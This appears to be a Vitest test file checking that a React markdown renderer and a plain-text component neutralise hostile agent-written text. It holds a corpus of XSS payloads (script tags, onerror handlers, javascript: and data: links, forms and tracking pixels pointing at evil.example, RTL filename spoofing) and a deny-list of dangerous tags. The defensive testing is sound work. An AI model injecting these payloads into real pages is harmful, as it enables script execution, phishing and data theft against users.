// What agents write is hostile (T25, section 7 line 22): rendered as the page renders it, and looked at.
// @vitest-environment happy-dom
import { act } from "react";
import { createRoot } from "react-dom/client";
import { afterEach, expect, test } from "vitest";
import Rendered from "~/ui/markdown-rendered";
import { Foreign } from "~/ui/text";

(globalThis as { IS_REACT_ACT_ENVIRONMENT?: boolean }).IS_REACT_ACT_ENVIRONMENT = true;
const hosts: HTMLElement[] = [];
afterEach(() => {
  for (const host of hosts.splice(0)) host.remove();
});

function shown(element: React.ReactNode): HTMLElement {
  const host = document.createElement("div");
  hosts.push(host);
  document.body.append(host);
  act(() => createRoot(host).render(element));
  return host;
}

const CORPUS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<a href='javascript:alert(1)'>x</a>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\nscript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](vbscript:msgbox(1))",
  "[x](file:///etc/passwd)",
  "[x](//evil.example/x)",
  "[x](/api/v1/logout)",
  "<javascript:alert(1)>",
  "![x](https://evil.example/pixel.png)",
  "![x](data:image/svg+xml;base64,PHN2Zz4=)",
  "[![x](https://evil.example/p.png)](https://evil.example)",
  "[ref]\n\n[ref]: javascript:alert(1)",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<form action=https://evil.example><input name=a><button>send</button></form>",
  "<style>*{background:url(https://evil.example)}</style>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<base href=https://evil.example>",
  "<object data=x></object><embed src=x><video src=x onerror=alert(1)>",
  "`<img src=x onerror=alert(1)>`",
  "```html\n<script>alert(1)</script>\n```",
  "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
  "- [ ] <input autofocus onfocus=alert(1)>",
  "Autolink https://evil.example/?q=<script>",
  "[\u202Egnp.exe](https://evil.example)",
  "<!-- --><math><mi xlink:href='javascript:alert(1)'>x",
  "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
];
const BAD =
  "script,img,svg,iframe,form,button,style,meta,base,object,embed,video,audio,link,math,template,[srcdoc],[style]";

test.each(CORPUS)("markdown: %s", (text) => {
  for (const streaming of [false, true]) {
    const host = shown(<Rendered text={text} streaming={streaming} />);
    expect(host.querySelectorAll(BAD)).toHaveLength(0);
    for (const each of host.querySelectorAll("*"))
      for (const name of each.getAttributeNames()) expect(name).not.toMatch(/^on|^src|^action|^formaction/i);
    for (const link of host.querySelectorAll("a")) {
      const href = link.getAttribute("href") ?? "";
      if (href.startsWith("#")) continue; // a footnote of the text itself
      expect(href).toMatch(/^https?:\/\//i);
      expect(link.rel).toContain("noopener");
      expect(link.textContent).toContain(new URL(href).host);
    }
  }
});

test("a link whose text names another host shows its own", () => {
  const host = shown(
    <Rendered text="[https://bank.example](https://evil.example/login)" streaming={false} />,
  );
  expect(host.textContent).toContain("(evil.example)");
});

test.each(CORPUS)("plain text stays text: %s", (text) => {
  const host = shown(<Foreign text={text} lines />);
  expect([...host.querySelectorAll("*")].every((each) => each.className === "mark")).toBe(true);
  if (!/[\u202E]/.test(text)) expect(host.textContent).toBe(text);
});

test("what cannot be seen is marked", () => {
  const host = shown(<Foreign text={"a\u202Eb"} />);
  expect(host.querySelector(".mark")?.textContent).toBe("⟦U+202E⟧");
});
